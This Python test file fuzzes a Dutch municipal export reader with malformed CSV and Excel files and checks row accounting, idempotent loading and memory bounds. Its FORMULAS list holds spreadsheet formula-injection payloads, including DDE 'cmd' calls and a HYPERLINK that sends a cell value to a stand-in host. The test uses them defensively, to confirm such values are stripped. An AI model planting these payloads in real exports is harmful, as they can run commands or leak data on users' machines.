"""Fuzzed municipal exports: hypothesis generates subsidy and kernagenda files as a dozen different systems make them.

Every generated file must give either the documented ExportFileError (a Dutch message that starts with the file
name) or a read in which no row is lost: the rows under the header are accepted, rejected (each reject naming the
row as Excel shows it, the column as the file names it, and what was expected) or skipped with a reason. Loading a
file twice changes nothing. A 100.000-row CSV and a 100.000-row workbook are read whole in bounded memory (at
most 1,5 kB per row over the interpreter's baseline: the accepted rows, column by column, and nothing else).

CI runs a fixed, derandomised set (FUZZ_EXAMPLES, at least 2.000 files) and the two big files. The heavy runs:

    KERNMONITOR_FUZZ_EXAMPLES=20000 .venv/bin/python -m pytest tests/test_fuzz_exports.py -q
    KERNMONITOR_FUZZ_BIG=500000 .venv/bin/python -m pytest tests/test_fuzz_exports.py -q -k 100000   # rows per big file
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from xml.sax.saxutils import escape

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils import get_column_letter

from ingest.exports import ExportFileError, read_export
from ingest.exports_load import ensure_export_tables, load_export, summary_text
from ingest.exports_spec import FIELDS, KINDS, PERSONAL_WORDS, SUBSIDIES, VALUES
from ingest.exports_values import FORMULA_PREFIXES
from ingest.kernen import kern_lookup, load_kern_mapping

REPO = Path(__file__).resolve().parent.parent
TODAY = date(2025, 6, 1)
MAPPING = load_kern_mapping(REPO / "data" / "kernen" / "kern_buurt.csv")
KERNEN = {code: sorted(set(names.values())) for code, names in kern_lookup(MAPPING).items()}
GEMEENTEN = ("GM1960", "GM0214")

FUZZ_EXAMPLES = int(os.environ.get("KERNMONITOR_FUZZ_EXAMPLES", "2000"))
# Fixed and derandomised: CI fuzzes the same files every run, so a red run can be reproduced.
FUZZ = settings(
    max_examples=FUZZ_EXAMPLES,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=list(HealthCheck),
)
LOAD_EXAMPLES = max(200, FUZZ_EXAMPLES // 10)

ENCODINGS = ("utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le", "utf-16-be")  # -le/-be: no BOM
DELIMITERS = (";", ",", "\t", "|")
HUGE = 100_000
# Text a spreadsheet runs as a formula, the classic CSV injections included.
FORMULAS = (
    "=SUM(D2:D9)",
    '=HYPERLINK("http://voorbeeld.invalid/?x="&A2;"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "=leefbaarheidsbudget",
    "=Beesd",
    "=toegekend",
)


@dataclass
class Generated:
    """One generated file and what its generator knows about it."""

    name: str
    data: bytes
    kind: str
    header_row: int  # the header's row as Excel shows it
    rows_in: int  # rows under the header up to the last row with anything in it
    headers: list[str]
    intact: bool = True  # False when the bytes were cut off: then only "no crash" is checked
    notes: list[str] = field(default_factory=list)

    def __repr__(self) -> str:  # the bytes can be megabytes: show their start, and what made the file
        return (
            f"Generated({self.name!r}, {len(self.data)} bytes {self.data[:300]!r}..., header_row={self.header_row}, "
            f"rows_in={self.rows_in}, intact={self.intact}, notes={self.notes})"
        )


def _mangle(r: random.Random, alias: str) -> str:
    """A header as people type it: another case, spaces, a unit in brackets, or a misspelling."""
    how = r.choice(["same", "same", "same", "upper", "lower", "spaces", "unit", "dash", "typo", "typo"])
    if how == "upper":
        return alias.upper()
    if how == "lower":
        return alias.lower()
    if how == "spaces":
        return f"  {alias.replace(' ', '  ')} "
    if how == "unit":
        return f"{alias} ({r.choice(['EUR', '€', 'keuzelijst', 'jjjj'])})"
    if how == "dash":
        return alias.replace(" ", "-")
    if how == "typo" and len(alias) > 2:
        return _typo(r, alias)
    return alias


def _typo(r: random.Random, word: str) -> str:
    i = r.randint(0, len(word) - 2)
    how = r.choice(["drop", "swap", "double", "insert"])
    if how == "drop":
        return word[:i] + word[i + 1 :]
    if how == "swap":
        return word[:i] + word[i + 1] + word[i] + word[i + 2 :]
    if how == "double":
        return word[: i + 1] + word[i] + word[i + 1 :]
    return word[:i] + r.choice("aeiouxz ") + word[i:]


# Characters that break naive readers: accents, NBSP, zero-width and right-to-left marks, emoji, quotes,
# delimiters, line breaks, a BOM in the middle, digits of other scripts.
ODD_CHARACTERS = "abcxyzé ëçÅß€\u00a0\u200b\u200f\u2028\ufeff😀汉\"';,|\t\n\r\\٣²-=+@()"
PLAIN = ["Speeltuin", "Dorpshuis 't Anker", "Café-avond", "ja", "nvt", "-", "n.v.t.", "#N/B", "  ", "Jan Jansen"]


def _text(r: random.Random) -> str:
    if r.random() < 0.5:
        return r.choice(PLAIN)
    return "".join(r.choice(ODD_CHARACTERS) for _ in range(r.randint(0, 12)))


def _amount(r: random.Random, xlsx: bool) -> object:
    choice = r.choice(["good", "good", "bad", "number", "empty"])
    if choice == "good":
        return r.choice(["1.234,56", "€ 250,-", "750", "1250,5", "1,234.56", "0", "12.500", "€\u00a01.000,00"])
    if choice == "bad":
        return r.choice(
            ["veel", "-50", "(50,00)", "1.234.567,00", "99999999999", "1e9", "12,3,4", "€", "1..2", "250,--", "--5"]
        )
    if choice == "number":
        value = r.choice([r.uniform(-1e6, 2e6), r.randint(-(10**20), 10**20), float("nan"), float("inf"), -0.0, 1e308])
        return value if xlsx else str(value)
    return ""


def _date(r: random.Random, xlsx: bool) -> object:
    choice = r.choice(["text", "text", "impossible", "cell", "serial", "other", "empty"])
    day = date(1995, 1, 1) + timedelta(days=r.randint(0, 12_000))
    if choice == "text":
        return day.strftime(r.choice(["%d-%m-%Y", "%Y-%m-%d", "%d/%m/%Y", "%d.%m.%y", "%d-%m-%Y 00:00"]))
    if choice == "impossible":
        return r.choice(["31-02-2023", "2023-13-45", "00-00-0000", "29-02-2023", "32 maart 2023", "9999-12-31"])
    if choice == "cell" and xlsx:
        return datetime.combine(day, datetime.min.time())
    if choice == "serial":
        serial = r.randint(-10, 80000)
        return serial if xlsx else str(serial)
    if choice == "other":
        return r.choice(["morgen", "Q3 2023", "12 maart 2023", "1 mrt. 2024", "2023", "12-03"])
    return ""


def _year(r: random.Random, xlsx: bool) -> object:
    value = r.choice([2019, 2021, 2023, 2024, 2025, 2026, 1999, 3000, 0, -5, 2023.0, 2023.5, 10**30])
    if r.random() < 0.5 or not xlsx:
        return r.choice([str(value), "twintig", "2023/2024", "", str(value)])
    return value


def _domain_value(r: random.Random, domain: str) -> str:
    canonical = list(VALUES[domain])
    spellings = [s for spellings in VALUES[domain].values() for s in spellings]
    choice = r.choice(["canonical", "spelling", "typo", "other", "empty"])
    if choice == "canonical":
        return r.choice(canonical)
    if choice == "spelling":
        return r.choice(spellings).upper() if r.random() < 0.5 else r.choice(spellings)
    if choice == "typo":
        return _typo(r, r.choice(canonical))
    if choice == "other":
        return r.choice(["Jan Jansen", "onbekend", "?", "zie mail", "Toegekend!"])
    return ""


def _kern(r: random.Random, gemeente: str) -> str:
    own = KERNEN[gemeente]
    other = KERNEN[next(g for g in GEMEENTEN if g != gemeente)]
    choice = r.choice(["own", "own", "own", "case", "typo", "other", "unknown", "empty"])
    if choice == "own":
        return r.choice(own)
    if choice == "case":
        return r.choice(own).upper().replace("-", " ")
    if choice == "typo":
        return _typo(r, r.choice(own) + " ")
    if choice == "other":
        return r.choice(other)
    if choice == "unknown":
        return r.choice(["Tiel", "Amsterdam", "Dorp", "'s-Hertogenbosch", "ÿ"])
    return ""


def _cell(r: random.Random, spec, gemeente: str, xlsx: bool, serial: int) -> object:
    """A value for one column of the format: mostly plausible, often wrong, sometimes hostile."""
    hostile = r.randint(0, 19)
    if hostile == 0:
        return r.choice(FORMULAS)
    if hostile == 1:
        return _text(r)
    if spec.parse == "kern":
        return _kern(r, gemeente)
    if spec.parse == "value":
        return _domain_value(r, spec.domain)
    if spec.parse == "amount":
        return _amount(r, xlsx)
    if spec.parse == "date":
        return _date(r, xlsx)
    if spec.parse == "year":
        return _year(r, xlsx)
    if spec.name in ("dossiernummer", "nummer"):
        return r.choice([f"Z-2023-{serial:04d}", str(serial), serial, f"Z-2023-{serial % 3:04d}", ""])
    return r.choice([_text(r), "Nieuwe speeltuin", "Jeu de boules-baan", "Jan Jansen (06-12345678)"])


def _other_cell(r: random.Random, header: str) -> object:
    if any(word in header.lower().replace("-", "") for word in PERSONAL_WORDS):
        return r.choice(["Jan Jansen", "p.devries@voorbeeld.nl", "NL91 ABNA 0417 1643 00", "0612345678"])
    return _text(r)


EXTRA_HEADERS = ("Aanvrager", "E-mail", "IBAN", "Opmerking", "Behandeld door", "Kolom1", "Telefoon", "")


@st.composite
def export_files(draw, min_rows: int = 0, max_rows: int = 14) -> Generated:
    r = random.Random(draw(st.integers(0, 2**32)))  # cell values: many per file, drawn fast from one seed
    kind = draw(st.sampled_from(KINDS))
    gemeente = draw(st.sampled_from(GEMEENTEN))
    xlsx = draw(st.integers(0, 4)) == 0
    specs = [s for s in FIELDS[kind] if s.required or draw(st.booleans())]
    if draw(st.integers(0, 15)) == 0:  # a required column is missing: the file is unreadable, with a reason
        specs.pop(draw(st.integers(0, len(specs) - 1)))
    columns: list[tuple[object, str]] = [(s, _mangle(r, r.choice(s.aliases))) for s in specs]
    columns += [(None, h) for h in draw(st.lists(st.sampled_from(EXTRA_HEADERS), max_size=3))]
    if columns and draw(st.integers(0, 5)) == 0:  # a duplicated header
        columns.append(draw(st.sampled_from(columns)))
    columns = draw(st.permutations(columns))
    headers = [h for _, h in columns]
    notes: list[str] = []

    rows: list[list[object]] = []
    titles = draw(st.integers(0, 3))
    peildatum = draw(st.dates(date(2020, 1, 1), date(2026, 12, 31)))
    for _ in range(titles):
        title = draw(
            st.sampled_from(
                [
                    f"Overzicht {kind} gemeente",
                    f"Stand per {peildatum:%d-%m-%Y}",
                    "Gegenereerd door Zaaksysteem 7.3",
                    "",
                ]
            )
        )
        rows.append([title])
    header_index = len(rows)
    rows.append(list(headers))
    n = draw(st.integers(min_rows, max_rows))
    for serial in range(1, n + 1):
        what = draw(st.sampled_from(["data"] * 12 + ["blank", "total", "note", "header again", "dashes"]))
        if what == "data":
            row = []
            for spec, header in columns:
                row.append(_cell(r, spec, gemeente, xlsx, serial) if spec else _other_cell(r, header))
            rows.append(row)
        elif what == "blank":
            rows.append([""] * draw(st.integers(0, len(headers))))
        elif what == "total":
            rows.append([draw(st.sampled_from(["Totaal", "Subtotaal Beesd", "EINDTOTAAL", "Som"])), "", "12.345,00"])
        elif what == "note":
            rows.append(["Opmerking: bedragen zijn voorlopig"])
        elif what == "header again":
            rows.append(list(headers))
        else:
            rows.append(["-"] * len(headers))
    if rows[header_index + 1 :] and draw(st.integers(0, 24)) == 0:  # one huge cell somewhere under the header
        at = draw(st.integers(header_index + 1, len(rows) - 1))
        if rows[at]:
            c = draw(st.integers(0, len(rows[at]) - 1))
            rows[at][c] = draw(st.sampled_from(["x", "Beesd ", "1", '"', "=", ";"])) * HUGE
            notes.append("huge cell")
    trailing = draw(st.integers(0, 3))
    rows += [[""] * len(headers) for _ in range(trailing)]

    name_parts = []
    if draw(st.booleans()):
        name_parts.append(gemeente)
    name_parts.append(draw(st.sampled_from([kind, "export", "overzicht", "kernagenda" if kind == SUBSIDIES else kind])))
    if draw(st.integers(0, 2)) > 0:
        name_parts.append(f"{peildatum:%Y-%m-%d}")
    stem = "_".join(name_parts)

    if xlsx:
        data, rows = _xlsx(draw, rows, header_index, notes)
        name = f"{stem}.xlsx"
    else:
        encoding = draw(st.sampled_from(ENCODINGS))
        delimiter = draw(st.sampled_from(DELIMITERS))
        rows = [[_encodable(str(c), encoding) for c in row] for row in rows]
        buffer = io.StringIO(newline="")
        # The writer quotes a cell holding its own line terminator only: a bare CR needs "\r\n" to be quoted.
        bare_cr = any("\r" in c for row in rows for c in row)
        terminator = "\r\n" if bare_cr else draw(st.sampled_from(["\r\n", "\n"]))
        csv.writer(buffer, delimiter=delimiter, lineterminator=terminator).writerows(rows)
        data = buffer.getvalue().encode(encoding)
        name = f"{stem}.{draw(st.sampled_from(['csv', 'csv', 'txt', 'CSV']))}"
        notes.append(f"{encoding} {delimiter!r}")
    last = max((i for i, row in enumerate(rows) if any(_filled(c) for c in row)), default=header_index)
    generated = Generated(
        name=name,
        data=data,
        kind=kind,
        header_row=header_index + 1,
        rows_in=max(0, last - header_index),
        headers=[str(h).strip() for h in rows[header_index] if _filled(h)],
        notes=notes,
    )
    if draw(st.integers(0, 30)) == 0:  # cut off mid-file (a copy interrupted, a download broken off)
        # A share of the length, not a byte count: a workbook's size varies with its save time.
        generated.data = data[: max(1, len(data) * draw(st.integers(1, 999)) // 1000)]
        generated.intact = False
    return generated


def _filled(cell: object) -> bool:
    return cell is not None and not (isinstance(cell, str) and not cell.strip())


def _encodable(text: str, encoding: str) -> str:
    return text.encode(encoding, errors="replace").decode(encoding)


_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _xlsx(draw, rows: list[list[object]], header_index: int, notes: list[str]) -> tuple[bytes, list[list[object]]]:
    """A workbook: maybe a sheet before the data, merged cells, formulas (no cached value: read as empty)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Export"
    if draw(st.booleans()):
        first = workbook.create_sheet("Toelichting", 0)
        first.append(["Toelichting bij de export"])
        first.append(["Status", "Betekenis"])  # one recognised header word: never a kopregel
        first.append(["toegekend", "het college heeft besloten"])
        notes.append("extra sheet")
    if draw(st.booleans()):
        lists = workbook.create_sheet("Keuzelijsten")
        lists.append(["Regeling"])
        for value in VALUES["regeling"]:
            lists.append([value])
    # What the reader will see: a formula has no cached value (openpyxl writes none), a merged cell only its
    # top-left value.
    seen = [[None if isinstance(c, str) and c.startswith("=") else c for c in row] for row in rows]
    for row in rows:
        sheet.append([_ILLEGAL_XLSX.sub("", c) if isinstance(c, str) else c for c in row])
    if rows[header_index + 1 :] and draw(st.integers(0, 3)) == 0:
        r = draw(st.integers(header_index + 1, len(rows) - 1))
        width = max(2, len(rows[r]))
        c = draw(st.integers(1, width - 1))
        sheet.merge_cells(start_row=r + 1, start_column=c, end_row=r + 1 + draw(st.integers(0, 1)), end_column=c + 1)
        for rr in (r, r + 1):
            if rr < len(seen):
                seen[rr] += [None] * (c + 1 - len(seen[rr]))
                seen[rr][c] = None  # 0-based c is column c+1 of the merge, not the anchor
                if rr != r and c - 1 < len(seen[rr]):
                    seen[rr][c - 1] = None
        notes.append("merged")
    if header_index > 0 and draw(st.booleans()):
        sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=4)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue(), seen


def _check_read(generated: Generated, tmp: Path) -> None:
    path = tmp / generated.name
    path.write_bytes(generated.data)
    try:
        read = read_export(path, MAPPING, today=TODAY)
    except ExportFileError as exc:
        message = str(exc)
        assert message.startswith(f"{generated.name}: "), message
        assert len(message) > len(generated.name) + 20
        return
    if not generated.intact:
        return
    assert read.kind in KINDS
    assert read.header_row == generated.header_row, generated.notes
    accepted, rejected, skipped = len(read.accepted), read.rejected, len(read.skipped)
    # No row lost: every row under the header is accepted, rejected or skipped with a reason.
    assert generated.rows_in == accepted + rejected + skipped, (generated.notes, read.skipped)
    rows = {*read.accepted["bronrij"], *read.rejects["row"], *(s["row"] for s in read.skipped)}
    assert len(rows) == generated.rows_in
    assert rows <= set(range(generated.header_row + 1, generated.header_row + generated.rows_in + 1))
    assert all(s["reason"] for s in read.skipped)
    labels = {s.label for s in FIELDS[read.kind]}
    for reject in read.rejects.itertuples():
        assert reject.column in set(generated.headers) | labels, reject
        assert "verwacht" in reject.reason, reject
        assert len(reject.reason) < 600 and len(reject.value) <= 80, reject  # a huge cell is named by its start
    # Nothing a spreadsheet would run as a formula is kept (it would run when the data is exported again).
    for column in read.accepted.select_dtypes("string").columns:
        for value in read.accepted[column].dropna():
            assert not value.startswith(FORMULA_PREFIXES), (column, value)
    text = summary_text_for(read)
    assert f"{read.rows_read} {'rij' if read.rows_read == 1 else 'rijen'} gelezen: {accepted} opgenomen" in text
    if skipped:
        assert f"{skipped} {'rij' if skipped == 1 else 'rijen'} overgeslagen" in text


def summary_text_for(read) -> str:
    from ingest.exports_load import LoadSummary

    summary = LoadSummary(
        file=read.file_name,
        kind=read.kind,
        rows=read.rows_read,
        accepted=len(read.accepted),
        rejected=read.rejected,
        rejects=read.rejects.to_dict("records"),
        rows_in=read.rows_in,
        skipped=read.skipped,
    )
    summary.to_dict()
    return summary_text(summary)


@pytest.fixture(scope="module")
def scratch():
    with tempfile.TemporaryDirectory(prefix="fuzz-exports-") as folder:
        yield Path(folder)


@FUZZ
@given(export_files())
def test_fuzzed_file_is_read_or_refused_in_dutch_and_no_row_is_lost(scratch: Path, generated: Generated) -> None:
    _check_read(generated, scratch)


def _snapshot(con: duckdb.DuckDBPyConnection) -> dict[str, list]:
    tables = con.execute("select table_name from information_schema.tables where table_schema = 'raw'").fetchall()
    return {t: sorted(map(repr, con.execute(f"select * from raw.{t}").fetchall())) for (t,) in sorted(tables)}


@pytest.fixture(scope="module")
def warehouse(scratch: Path):
    """One DuckDB file for all examples (a new file per example costs more than the load): files accumulate,
    as in a real warehouse, and every second load must still change nothing."""
    with duckdb.connect(str(scratch / "warehouse.duckdb")) as con:
        ensure_export_tables(con)
        yield con


@settings(FUZZ, max_examples=LOAD_EXAMPLES)
@given(export_files(max_rows=8))
def test_loading_a_fuzzed_file_twice_changes_nothing(scratch: Path, warehouse, generated: Generated) -> None:
    folder = Path(tempfile.mkdtemp(dir=scratch))
    path = folder / generated.name
    path.write_bytes(generated.data)
    archive = folder / "archief"
    before = _snapshot(warehouse)
    try:
        first = load_export(warehouse, path, MAPPING, archive, today=TODAY)
    except ExportFileError:
        assert _snapshot(warehouse) == before  # a refused file leaves no trace
        assert not archive.exists()
        return
    loaded = _snapshot(warehouse)
    archived = sorted(p.name for p in archive.rglob("*"))
    again = load_export(warehouse, path, MAPPING, archive, today=TODAY)
    assert again.already_loaded or first.already_loaded
    assert again.to_dict() == first.to_dict()
    assert _snapshot(warehouse) == loaded
    assert sorted(p.name for p in archive.rglob("*")) == archived


# --- 100.000-row files: memory stays bounded -----------------------------------------------------------------

# Rows per big file: 100.000 in CI; KERNMONITOR_FUZZ_BIG=<rows> for a heavier run (1 means 500.000).
_BIG = os.environ.get("KERNMONITOR_FUZZ_BIG", "")
BIG_ROWS = 100_000 if not _BIG else 500_000 if _BIG == "1" else int(_BIG)
# An empty stretch in the workbook, longer than any "formatted but empty tail" cut-off: the rows after it count.
BIG_GAP = 600
# The memory bound per row of the file, over the baseline of reading a one-row file: 150 MB for 100.000 rows.
BYTES_PER_ROW = 1_500


def _big_csv(path: Path) -> int:
    """A 100.000-row subsidy CSV with personal columns, every 97th row rejected and a total row; rows under the
    header."""
    kernen = KERNEN["GM1960"]
    with path.open("w", encoding="cp1252", newline="") as fh:
        writer = csv.writer(fh, delimiter=";")
        writer.writerow(["Subsidies GM1960, stand per 28-02-2025"])
        writer.writerow(
            ["Regeling", "Kern", "Dossiernummer", "Omschrijving", "Datum besluit", "Bedrag toegekend", "Status"]
            + ["Aanvrager", "E-mail"]
        )
        for i in range(BIG_ROWS):
            bad = i % 97 == 0
            writer.writerow(
                [
                    "Leefbaarheidsbudget",
                    kernen[i % len(kernen)],
                    f"Z-{i:06d}",
                    f"Initiatief nummer {i} in het dorp",
                    "12-03-2024" if not bad else "31-02-2024",
                    f"{(i % 5000) + 0.5:.2f}".replace(".", ","),
                    "toegekend",
                    f"Inwoner {i} van het dorp",  # every applicant differs: the scrubber sees 100.000 names
                    f"inwoner{i}@voorbeeld.nl",
                ]
            )
        writer.writerow(["Totaal", "", "", "", "", "123.456,00", ""])
    return BIG_ROWS + 1


def _big_xlsx(path: Path) -> int:
    """A 100.000-row kernagenda workbook (as export tools write it: inline strings, no <dimension>), with an
    empty stretch of BIG_GAP rows halfway; rows under the header."""
    kernen = KERNEN["GM1960"]

    def rows() -> Iterator[list[str | int]]:
        yield ["Kernagenda, stand per 28-02-2025"]
        yield ["Kern", "Nummer", "Actiepunt", "Trekker", "Status", "Jaar opgenomen", "Contactpersoon"]
        for i in range(BIG_ROWS):
            if i == BIG_ROWS // 2:
                yield from ([] for _ in range(BIG_GAP))
            yield [kernen[i % len(kernen)], i, f"Actiepunt {i}", "gemeente", "idee", 2023, f"Persoon {i}"]

    _streamed_xlsx(path, "Kernagenda", rows())
    return BIG_ROWS + BIG_GAP


# The parts of a one-sheet workbook besides the sheet itself (Office Open XML, SpreadsheetML).
_XLSX_PARTS = {
    "[Content_Types].xml": (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/styles.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="xl/workbook.xml"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
        "</Relationships>"
    ),
    "xl/_rels/workbook.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="worksheets/sheet1.xml"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
        '<Relationship Id="rId2" Target="styles.xml"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"/>'
        "</Relationships>"
    ),
    "xl/styles.xml": (
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
        '<borders count="1"><border/></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
        '<cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs>'
        "</styleSheet>"
    ),
}


def _streamed_xlsx(path: Path, sheet: str, rows: Iterator[list[str | int]]) -> None:
    """A workbook written as a stream, the way export tools write big sheets: every cell an inline string or a
    number, an empty row as `<row r=".."/>`. (openpyxl's own writer took 20 s for the big workbook.)"""
    workbook = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<sheets><sheet name="{escape(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, xml in {**_XLSX_PARTS, "xl/workbook.xml": workbook}.items():
            package.writestr(name, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + xml)
        with package.open("xl/worksheets/sheet1.xml", "w") as part:
            part.write(
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet'
                b' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            letters = [get_column_letter(column) for column in range(1, 100)]
            for number, row in enumerate(rows, start=1):
                cells = "".join(
                    f'<c r="{letter}{number}"><v>{value}</v></c>'
                    if isinstance(value, int)
                    else f'<c r="{letter}{number}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'
                    for letter, value in zip(letters, row, strict=False)
                )
                part.write(f'<row r="{number}">{cells}</row>'.encode() if cells else f'<row r="{number}"/>'.encode())
            part.write(b"</sheetData></worksheet>")


MEMORY_PROBE = """
import resource, sys
from datetime import date
from pathlib import Path
from ingest.exports import read_export
from ingest.kernen import load_kern_mapping
mapping = load_kern_mapping(Path("data/kernen/kern_buurt.csv"))
read = read_export(Path(sys.argv[1]), mapping, today=date(2025, 6, 1))
print(read.rows_in, len(read.accepted), read.rejected, len(read.skipped),
      resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024)
"""


def _peak(path: Path) -> tuple[list[int], int]:
    out = subprocess.run(
        [sys.executable, "-c", MEMORY_PROBE, str(path)], cwd=REPO, capture_output=True, text=True, check=True
    ).stdout.split()
    return [int(x) for x in out[:4]], int(out[4])


@pytest.fixture(scope="module")
def baseline(scratch: Path) -> int:
    """The peak of reading a one-row file: the interpreter, pandas, pydantic and openpyxl themselves."""
    small = scratch / "GM1960_klein_subsidies.csv"
    small.write_text(
        "Regeling;Kern;Dossiernummer;Datum besluit;Bedrag toegekend;Status\nlbb;Beesd;1;1-1-2024;5;toegekend\n"
    )
    return _peak(small)[1]


@pytest.mark.parametrize("maker", [_big_csv, _big_xlsx], ids=["csv", "xlsx"])
def test_a_100000_row_file_is_read_whole_in_bounded_memory(tmp_path: Path, baseline: int, maker) -> None:
    big = tmp_path / ("GM1960_groot_export.csv" if maker is _big_csv else "GM1960_groot_kernagenda.xlsx")
    rows_under_header = maker(big)
    counts, peak = _peak(big)
    rows_in, accepted, rejected, skipped = counts
    # Every row accounted for: in the CSV the total row is skipped, in the workbook the empty stretch, whose
    # rows are counted and the rows after it read (not cut off as a "formatted tail").
    assert rows_in == rows_under_header == accepted + rejected + skipped
    if maker is _big_csv:
        assert (rejected, skipped) == ((BIG_ROWS + 96) // 97, 1)
    else:
        assert (accepted, rejected, skipped) == (BIG_ROWS, 0, BIG_GAP)
    # The bound: the process's peak minus that of reading a one-row file stays under 1,5 kB per row (150 MB for
    # 100.000 rows). A reader that holds the file's text, its parsed rows, a dict or model per row, a workbook's
    # every cell object, or a pattern compiled from 100.000 applicants' names does not fit; nor does one that
    # cuts a file short. (Reading 100.000 rows took 700 MB and 70 s a file before rows were streamed.)
    assert peak - baseline < BYTES_PER_ROW * rows_under_header, (peak - baseline, big.stat().st_size)
